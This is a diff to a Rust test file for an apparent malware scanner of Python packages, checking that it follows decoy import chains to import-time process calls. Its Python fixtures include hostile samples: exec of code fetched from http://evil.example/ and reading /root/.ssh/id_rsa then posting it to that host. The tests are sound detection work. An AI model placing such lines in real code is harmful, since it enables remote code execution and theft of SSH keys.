@@ -202,8 +202,7 @@ fn a_name_that_is_bound_more_than_once_is_all_that_it_may_be() {
     for bad_at in ["one", "two"] {
         let tool = |folder: &str| if folder == bad_at { bad } else { good };
         let files = [("one/tool/__init__.py", ""), ("one/tool/a.py", tool("one")), ("two/tool/a.py", tool("two"))];
-        let files =
-            [&files[..], &[("two/tool/__init__.py", ""), ("two/main.py", "from tool.a import run\nrun('id')\n")]];
+        let files = [&files[..], &[("two/tool/__init__.py", ""), ("main.py", "from tool.a import run\nrun('id')\n")]];
         assert!(found(&files.concat()), "{bad_at}");
     }
     // Handed through many modules.
@@ -231,21 +230,122 @@ fn what_is_put_together_for_a_call_is_looked_at_however_it_is_given() {
     assert!(!finds("f(range(10), url=list('abc'), text='http://169.254' + '.1.1')\n"));
 }
 
+/// Whether a tree of these files is told to run something when it is imported.
+fn runs_something(files: &[(&str, &str)]) -> bool {
+    let found = scan(&tree(files), &Settings::default()).findings;
+    found.iter().any(|finding| finding.rule == "AL-MALWARE-import-time-process")
+}
+
+#[test]
+fn no_decoy_hides_what_a_name_may_be() {
+    let data = ("p/decoy.py", "import os\nd = 'x' + os.environ['X']\n");
+    let own = ("p/x.py", "def run(x): pass\n");
+    let bad = ("p/bad.py", "from os import system as run\n");
+    let cases: &[&[(&str, &str)]] = &[
+        &[
+            ("p/b.py", "import os\nfrom .decoy import d\ndef f(x=0):\n    if x:\n        return d\n    return os\n"),
+            ("p/__init__.py", "from .b import f\nf().system('id')\n"),
+        ],
+        &[
+            ("p/b.py", "import os\nfrom .decoy import d\nclass C:\n    x = d\n    x = os\n"),
+            ("p/__init__.py", "from .b import C\nC().x.system('id')\n"),
+        ],
+        &[
+            ("p/b.py", "import os, subprocess\nf = {'a': os.environ, 'b': subprocess}\n"),
+            ("p/__init__.py", "from .b import f\nf['b'].run('id', shell=True)\n"),
+        ],
+        &[
+            ("p/mid.py", "from .decoy import d as m\nfrom .zbad import m\n"),
+            ("p/zbad.py", "import os as m\n"),
+            ("p/q.py", "from .mid import m\nrun = m.system\n"),
+            ("p/r.py", "from .q import run\n"),
+            ("p/__init__.py", "from .r import run\nrun('id')\n"),
+        ],
+        &[
+            ("p/b.py", "def run(x): pass\nfrom .mid import *\n"),
+            ("p/mid.py", "from .x import run\nfrom .bad import run\n"),
+            ("p/__init__.py", "from .b import run\nrun('id')\n"),
+        ],
+        &[
+            ("p/both.py", "from .b import *\nfrom .c import *\n"),
+            ("p/b.py", "def run(x): pass\nfrom .bad import *\n"),
+            ("p/c.py", "from .x import run\n"),
+            ("p/__init__.py", "from .both import run\nrun('id')\n"),
+        ],
+        &[("p/m.py", "import os as m\n"), ("p/__init__.py", "class m: pass\nfrom .m import *\nm.system('id')\n")],
+    ];
+    for case in cases {
+        let files = [&[data, own, bad][..], case].concat();
+        assert!(runs_something(&files), "{case:?}");
+    }
+}
+
+#[test]
+fn data_is_followed_by_all_ways() {
+    let rules = |files: &[(&str, &str)]| -> Vec<String> {
+        scan(&tree(files), &Settings::default()).findings.into_iter().map(|finding| finding.rule).collect()
+    };
+    for decoy in ["from sys import meta_path as {}", "from asyncio import sleep as {}", "from .zz import {}"] {
+        let both = |module: &str, name: &str| format!("from .{module} import {name}\n{}\n", decoy.replace("{}", name));
+        let found = rules(&[
+            ("z/bad.py", "def run(c):\n    exec(c)\n"),
+            ("z/both.py", &both("bad", "run")),
+            (
+                "z/__init__.py",
+                "import requests\nfrom .both import run\nrun(requests.get('http://evil.example/').text)\n",
+            ),
+        ]);
+        assert!(found.iter().any(|rule| rule == "AL-FLOW-download-execute"), "{decoy}: {found:?}");
+        let found = rules(&[
+            ("z/src.py", "d = open('/root/.ssh/id_rsa').read()\n"),
+            ("z/both.py", &both("src", "d")),
+            ("z/__init__.py", "import requests\nfrom .both import d\nrequests.post('http://evil.example/', data=d)\n"),
+        ]);
+        assert!(found.iter().any(|rule| rule == "AL-FLOW-key-file-to-network"), "{decoy}: {found:?}");
+    }
+}
+
+#[test]
+fn of_several_folders_the_nearest_is_meant() {
+    let (good, bad) = ("def run(x): pass\n", "from subprocess import run\n");
+    let call = "from utils import run\nrun('x')\n";
+    for (one, two) in [(good, bad), (bad, good)] {
+        let files = [("ex1/utils.py", one), ("ex2/utils.py", two), ("ex1/main.py", call)];
+        assert_eq!(runs_something(&files), one == bad);
+    }
+    let files = [("ex1/utils.py", good), ("ex2/utils.py", bad), ("main.py", call)];
+    assert!(runs_something(&files), "either may be meant");
+    let chain = [
+        ("one/tool/__init__.py", ""),
+        ("one/tool/a.py", good),
+        ("two/tool/__init__.py", ""),
+        ("two/tool/a.py", "from tool.b import run\n"),
+        ("two/tool/b.py", "from os import system as run\n"),
+        ("main.py", "from tool.a import run\nrun('id')\n"),
+    ];
+    assert!(runs_something(&chain));
+}
+
 #[test]
 fn more_ways_than_are_followed_are_told() {
-    let decoys: String = (0..80).map(|n| format!("from .d{n} import run\n")).collect();
-    let bad = format!("{decoys}from .bad import run\n");
-    let files = [
-        ("p/bad.py", "from os import system as run\n"),
-        ("p/both.py", &bad),
-        ("p/__init__.py", "from .both import run\nrun('id')\n"),
-    ];
-    let rules: Vec<String> =
-        scan(&tree(&files), &Settings::default()).findings.into_iter().map(|finding| finding.rule).collect();
-    assert!(
-        rules.iter().any(|rule| rule == "AL-CODE-too-complex" || rule == "AL-MALWARE-import-time-process"),
-        "{rules:?}"
-    );
+    let rules = |files: &[(&str, &str)]| -> Vec<String> {
+        scan(&tree(files), &Settings::default()).findings.into_iter().map(|finding| finding.rule).collect()
+    };
+    let call = "from .both import run\nrun('id')\n";
+    let stars: String = (0..80).map(|n| format!("from .d{n} import run\n")).collect();
+    let files: Vec<(String, String)> =
+        (0..80).map(|n| (format!("p/d{n}.py"), "import os\nrun = os.path\nrun = os.spawnl\n".to_owned())).collect();
+    let mut all: Vec<(&str, &str)> = files.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
+    all.extend([("p/both.py", stars.as_str()), ("p/__init__.py", call)]);
+    assert!(rules(&all).contains(&"AL-CODE-too-complex".to_owned()));
+    // A chain of more modules than are followed, and a circle, which leads nowhere.
+    let chain: Vec<(String, String)> =
+        (0..70).map(|n| (format!("p/m{n}.py"), format!("from .m{} import run\n", n + 1))).collect();
+    let mut all: Vec<(&str, &str)> = chain.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
+    all.extend([("p/m70.py", "from os import system as run\n"), ("p/__init__.py", "from .m0 import run\nrun('id')\n")]);
+    assert_eq!(rules(&all), ["AL-CODE-too-complex"]);
+    let circle = [("p/a.py", "from .b import run\n"), ("p/b.py", "from .a import run\n")];
+    assert_eq!(rules(&[&circle[..], &[("p/__init__.py", "from .a import run\nrun('id')\n")]].concat()), [""; 0]);
 }
 
 #[test]
